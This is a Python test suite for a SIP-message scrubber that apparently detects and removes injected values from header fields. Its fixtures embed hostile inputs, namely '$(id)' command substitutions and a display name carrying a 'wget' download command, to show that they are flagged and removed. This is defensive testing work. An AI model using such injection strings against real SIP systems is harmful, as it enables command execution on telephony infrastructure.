"""Scrubbing takes a value out and changes no other byte."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from harness import SDP, invite
from sipsieve import ruleset, structure
from sipsieve.detect import detect
from sipsieve.message import parse
from sipsieve.model import Finding, PartKind
from sipsieve.parts import parts
from sipsieve.scrub import PLACEHOLDER, can_scrub, removable, scrub

RULES = ruleset.load()


def finding(raw: bytes, field: str) -> Finding:
    part = next(part for part in parts(parse(raw)) if part.field == field)
    return Finding(
        "a-b", "sql", 5, field, "why", part.value, (part.start, part.end), part.kind, removable=removable(part, False)
    )


def test_a_display_name_is_replaced_and_nothing_else() -> None:
    raw = invite(from_='"bad" <sip:a@example.com>;tag=1')
    assert scrub(parse(raw), [finding(raw, "from.display_name")]) == raw.replace(b'"bad"', b'"removed"')


def test_what_calls_are_routed_by_stays() -> None:
    raw = invite(from_='"bad" <sip:bad@example.com>;tag=1')
    user = finding(raw, "from.userinfo")
    assert not can_scrub([user])
    both = scrub(parse(raw), [user, finding(raw, "from.display_name")])
    assert b"sip:bad@example.com" in both
    assert PLACEHOLDER in both


def test_what_a_reply_s_contact_is_reached_by_stays() -> None:
    """An ACK and a BYE go to the Contact of the answer."""
    reply = (
        b"SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bKa\r\nFrom: <sip:a@example.com>;tag=1\r\n"
        b"To: <sip:b@example.com>;tag=2\r\nCall-ID: x\r\nCSeq: 1 INVITE\r\n"
        b"Contact: <sip:$(id)@192.0.2.2:5070;transport=tcp;maddr=$(id);line=$(id)>\r\nContent-Length: 0\r\n\r\n"
    )
    message = parse(reply)
    findings = detect(message, RULES)
    assert {item.field for item in findings} >= {"contact.userinfo", "contact.maddr", "contact.line"}
    assert b"<sip:removed@192.0.2.2:5070;transport=tcp;maddr=$(id);line=removed>" in scrub(message, findings)


@given(st.binary(max_size=200), st.binary(max_size=60))
def test_the_body_is_never_touched(text: bytes, name: bytes) -> None:
    clean = bytes(byte for byte in name if byte not in b'"\\\r\n')
    raw = invite(body=SDP + text).replace(b'"Alice"', b'"' + clean + b'"')
    message = parse(raw)
    spans = [part for part in parts(message) if part.kind in (PartKind.DISPLAY_NAME, PartKind.TEXT)]
    findings = [
        Finding("a-b", "sql", 5, p.field, "why", p.value, (p.start, p.end), p.kind, removable=True) for p in spans
    ]
    assert scrub(message, findings).endswith(raw[message.body_start :])


def test_a_scrubbed_message_is_well_formed_and_clean() -> None:
    raw = invite(from_='"x; wget http://192.0.2.1/x" <sip:a@example.com>;tag=1', headers=("Subject: $(id)",))
    assert detect(parse(raw), RULES)
    again = parse(scrub(parse(raw), detect(parse(raw), RULES)))
    structure.check(again, 65535)
    assert not structure.is_malformed(again)
    assert detect(again, RULES) == []
